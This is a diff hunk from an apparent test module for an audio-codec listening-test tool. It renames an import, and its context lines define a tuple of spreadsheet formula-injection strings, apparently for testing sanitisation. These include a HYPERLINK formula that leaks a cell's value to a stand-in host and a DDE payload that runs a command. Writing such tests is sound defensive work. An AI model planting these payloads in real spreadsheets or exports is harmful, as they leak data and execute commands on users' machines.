@@ -23,7 +23,7 @@ from codecbench.storage.listening_tables import ParticipantRow
 from codecbench.untrusted_text import spreadsheet_safe, terminal_safe
 from tests.browser import free_port
 from tests.mushra_helpers import complete, prepare, start, store, write_test_files
-from tests.test_cli import run_cli
+from tests.cli_runner import run_cli
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2", "-2+3")
 
